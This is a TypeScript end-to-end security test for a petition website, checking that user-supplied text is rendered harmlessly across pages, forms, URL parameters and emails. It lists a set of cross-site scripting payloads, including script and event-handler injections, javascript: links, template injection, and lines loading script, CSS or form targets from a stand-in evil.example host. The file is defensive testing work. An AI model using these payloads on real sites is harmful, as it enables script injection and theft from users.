import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Opened, openBrowser } from "./support/journey.ts";
import { mailTo } from "./support/mail.ts";
import { aPetition, aSignature, type PathOf } from "./support/petition.ts";
import { fillIn, pressSign } from "./support/steps.ts";

/** Each breaks out of another place: an element, an attribute, a script, a style, an address, a comment, Markdown. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  '"><svg/onload=alert(3)>',
  "' autofocus onfocus=alert(4) x='",
  "</textarea></title></style><script>alert(5)</script>",
  "javascript:alert(6)",
  "[klick](javascript:alert(7)) ![x](javascript:alert(8))",
  '<a href="java\tscript:alert(9)">x</a>',
  "--><iframe srcdoc='<script>alert(10)</script>'></iframe><!--",
  "{{constructor.constructor('alert(11)')()}}$" + "{alert(12)}",
  "</script><script src=https://evil.example/x.js></script>",
  "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
  "<form action=https://evil.example><button>weiter</button></form><base href=https://evil.example/>",
  "\u202Egnp.exe\u2066<b>x</b>&lt;script&gt;alert(13)&lt;/script&gt;",
];

/** Two at a time: a page has more than one place to break out of. */
const PAIRS = PAYLOADS.flatMap((payload, index) =>
  index % 2 === 0 ? [[payload, PAYLOADS[index + 1]!] as const] : [],
);

describe("safety 22: what people type stays text", () => {
  let opened: Opened;
  let petition: string;
  const signers: PathOf[] = [];

  beforeAll(async () => {
    opened = await openBrowser();
    const all = PAYLOADS.join(" ");
    petition = await aPetition({
      slug: "angriff",
      title: all.slice(0, 200),
      startedBy: PAYLOADS[1]!,
      addressee: PAYLOADS[2]!,
      summary: all.slice(0, 600),
      story: PAYLOADS.join("\n\n"),
      asks: "region",
      regions: PAYLOADS.map((payload, index) => ({ code: `r${index}`, name: payload })),
    });
    for (const [index, payload] of PAYLOADS.entries())
      signers.push(
        await aSignature(petition, {
          name: payload,
          email: `angriff${index}@nordstadt.example`,
          region: `r${index}`,
          reason: payload,
          confirmed: index > 0,
        }),
      );
  });
  afterAll(() => opened.page.context().close());

  /** Nothing ran, nothing was blocked because nothing was tried, nobody else was asked, and nothing was built of it. */
  async function expectHarmless(page = opened.page): Promise<void> {
    expect(await opened.unwelcome()).toEqual([]);
    const built = page.locator(
      '[onerror], [onload], [onfocus], iframe, base, style, [href^="javascript" i], :not(a)[href*="//evil"], [src*="//evil"]',
    );
    expect(await built.evaluateAll((all) => all.map((one) => one.outerHTML))).toEqual([]);
  }

  test("safety 22: on every page that shows what signers and organisers wrote", async () => {
    const { page } = opened;
    const pages = ["", "/reasons", "/privacy"].map((end) => `${petition}${end}`);
    for (const path of ["/", "/petitions", ...pages, `${petition}/map-light.svg`]) {
      await page.goto(path);
      await expectHarmless();
    }
    for (const [index, path] of signers.entries())
      for (const kind of index === 0
        ? (["details", "confirmation", "withdrawal"] as const)
        : (["own"] as const)) {
        await page.goto(path(kind));
        await expectHarmless();
      }
  });

  test("safety 22: in every field of a form that comes back", async () => {
    const { page } = opened;
    await page.goto(petition);
    for (const [name, email] of PAIRS) {
      await fillIn(page, { name, email });
      const comesBack = page.waitForEvent("load");
      await pressSign(page);
      await comesBack;
      await page.locator("#errors").waitFor();
      await expectHarmless();
      expect(await page.getByLabel("Name", { exact: true }).inputValue()).toBe(name);
      expect(await page.getByLabel("E-Mail", { exact: true }).inputValue()).toBe(email);
    }
  });

  test("safety 22: in every parameter of an address", async () => {
    const { page } = opened;
    for (const payload of PAIRS.map((pair) => encodeURIComponent(pair.join("")))) {
      const answers = [
        `/${payload}?lang=${payload}`,
        `/petitions?after=${payload}&lang=${payload}`,
        `/petitions/${payload}/signatures/${payload}/own?key=${payload}`,
        `${signers[0]!("details")}&saved=${payload}&lang=en`,
        `/cabinet/card?theme=${payload}&dir=${payload}&${payload}=${payload}`,
      ];
      for (const path of answers) {
        const answer = await page.goto(path, { waitUntil: "domcontentloaded" });
        expect(answer!.status(), path).toBeLessThan(500);
        await expectHarmless();
      }
    }
  });

  test("safety 22: in mails", async () => {
    const { html } = await mailTo("angriff0@nordstadt.example");
    expect(html).toContain("&lt;script&gt;");
    const letterBox = await opened.page.context().newPage();
    await letterBox.setContent(html);
    await expectHarmless(letterBox);
  });
});
